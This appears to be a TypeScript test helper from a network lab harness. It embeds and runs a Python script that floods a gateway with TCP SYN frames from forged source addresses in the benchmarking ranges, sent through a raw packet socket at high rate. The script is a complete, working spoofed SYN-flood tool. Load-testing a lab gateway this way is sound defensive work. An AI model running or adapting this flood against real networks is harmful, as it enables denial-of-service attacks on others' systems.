/** A flood of TCP SYNs from forged sources, straight out of an interface. */
import type { Host } from '../../../src/cli/lab/lab.js';

/**
 * Builds frames with random sources and ports, checksums right, and sends them through a packet socket, some
 * ten thousand a second. Sources are of 198.18.0.0/15 (RFC 2544) or 2001:2::/48 (RFC 5180), which nobody has.
 */
const FLOOD = `
import os, random, socket, struct, sys, time
device, mac, source_mac, address, port, seconds = sys.argv[1:7]
six = ':' in address
target = socket.inet_pton(socket.AF_INET6 if six else socket.AF_INET, address)
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
ether = bytes.fromhex(mac.replace(':', '') + source_mac.replace(':', '')) + (b'\\x86\\xdd' if six else b'\\x08\\x00')

def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total > 0xffff: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def frame():
    tail = os.urandom(8)
    options = b'\\x02\\x04\\x05\\xb4\\x04\\x02\\x08\\x0a' + os.urandom(4) + b'\\0\\0\\0\\0\\x01\\x03\\x03\\x07'
    if six: source = bytes.fromhex('200100020000') + b'\\0\\0' + tail
    else: source = bytes([198, 18 | tail[0] & 1, tail[1], tail[2]])
    segment = struct.pack('!HHIIBBHHH', random.randrange(1024, 65536), int(port), random.getrandbits(32), 0, 0xa0, 2, 64240, 0, 0) + options
    pseudo = source + target + struct.pack('!II' if six else '!HH', *((len(segment), 6) if six else (6, len(segment))))
    segment = segment[:16] + struct.pack('!H', checksum(pseudo + segment)) + segment[18:]
    if six: head = struct.pack('!IHBB', 0x60000000, len(segment), 6, 64) + source + target
    else:
        head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(segment), random.getrandbits(16), 0x4000, 64, 6, 0) + source + target
        head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
    return ether + head + segment

frames = [frame() for _ in range(4000)]
end = time.monotonic() + float(seconds)
sent = 0
while time.monotonic() < end:
    for one in random.sample(frames, 200):
        try:
            out.send(one)
            sent += 1
        except OSError: pass
    time.sleep(0.004)
print(sent)
`;

/** For so many seconds from the host's interface to the gateway at its other end. Resolves to how many SYNs left. */
export async function floodSyns(
  from: Host,
  gateway: Host,
  device: string,
  family: 4 | 6,
  address: string,
  port: number,
  seconds: number,
): Promise<number> {
  const mac = async (host: Host, name: string): Promise<string> => {
    const text = await host.ip(`-o link show dev ${name}`);
    return /link\/ether ([0-9a-f:]+)/.exec(text)![1]!;
  };
  if (family !== (address.includes(':') ? 6 : 4)) throw new Error(`${address} is not IPv${family}`);
  const args = [device, await mac(gateway, 'to0'), await mac(from, device), address, `${port}`, `${seconds}`];
  const { stdout } = await from.run('python3', ['-c', FLOOD, ...args], { timeoutMs: 60_000 });
  return Number(stdout);
}
